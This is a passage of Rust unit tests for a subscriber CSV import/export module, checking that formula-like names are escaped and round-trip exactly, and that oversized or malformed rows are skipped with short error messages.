            let name: String = (0..len)
                .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
                .collect();
            let Ok(Some(parsed)) = SubscriberName::parse(&name) else {
                continue;
            };
            formulas += usize::from(quotes_then_formula(parsed.as_str()));
            let email = format!("r{}@example.org", rows.len());
            rows.push(SubscriberRow {
                email: SubscriberEmail::parse(&email).unwrap(),
                name: Some(parsed),
                status: Status::Active,
            });
        }
        assert!(
            formulas > 1000,
            "the names must exercise the escape: {formulas}"
        );
        let first = export(&rows);
        let imported = read(first.as_bytes(), false).unwrap();
        assert_eq!(imported.skipped, vec![]);
        let back: Vec<_> = imported.rows.into_iter().map(|(_, r)| r).collect();
        assert_eq!(back, rows);
        assert_eq!(export(&back), first);
    }

    #[test]
    fn a_huge_field_is_skipped_unread_and_quoted_briefly() {
        // An unclosed quote swallows the rest of the file into one field.
        let mut text = String::from("email,name\nann@example.org,\"Ann\n");
        text.push_str(&"x".repeat(MAX_ROW_BYTES + 10));
        text.push_str("\nbob@example.org,Bob\n");
        let r = read(text.as_bytes(), false).unwrap();
        assert_eq!(r.rows, vec![]);
        assert_eq!(r.skipped.len(), 1);
        assert!(
            r.skipped[0].reason.starts_with("a row of "),
            "{:?}",
            r.skipped
        );
        assert!(r.skipped[0].reason.len() < 200, "{:?}", r.skipped);

        // Under the row limit, a long bad value is quoted by its start and length.
        let long = "y".repeat(1000);
        let r = read(
            format!("email,name,status\n{long}@,Ann,{long}\n").as_bytes(),
            false,
        )
        .unwrap();
        let reason = &r.skipped[0].reason;
        assert!(reason.contains("... (1001 characters)"), "{reason}");
        assert!(reason.contains("... (1000 characters)"), "{reason}");
        assert!(reason.len() < 500, "{reason}");
    }
}
